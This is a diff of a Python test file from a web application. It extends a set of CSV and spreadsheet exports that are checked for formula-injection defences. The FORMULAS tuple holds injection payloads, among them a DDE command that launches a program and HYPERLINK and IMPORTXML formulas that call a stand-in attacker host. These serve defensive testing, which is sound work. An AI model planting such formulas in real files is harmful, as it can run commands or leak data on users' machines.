@@ -147,9 +147,12 @@ def test_a_figure_of_a_billion_laughs_is_refused_before_it_is_read():
 
 FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1",
             "''=1+1", '=HYPERLINK("http://evil.example";"x")', '"=1+1', "=1+1;x", "-@x", "+A1", '=IMPORTXML("http://evil.example","//a")')
-EXPORTS = {"cohorts.roster_file", "cohorts.refused_rows", "cohorts.template",
+EXPORTS = {"seminars.report_rows",                  # tests/web/test_attendance_import.py
+           "cohorts.roster_file", "cohorts.refused_rows", "cohorts.template",
            "grading.figures_csv",                   # tests/web/test_statistics.py
            "gradebook.sheet",                       # tests/web/test_gradebook.py
+           "seminars.registrations_file", "seminars.public_list",              # tests/web/test_registration_office.py
+           "internships.journey_file", "internships.my_journey_file", "internships.summary_file",      # tests/web/test_travel.py
            "completion.overall_file", "completion.everywhere_file"}         # tests/web/test_completion.py
 COMPUTED = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 
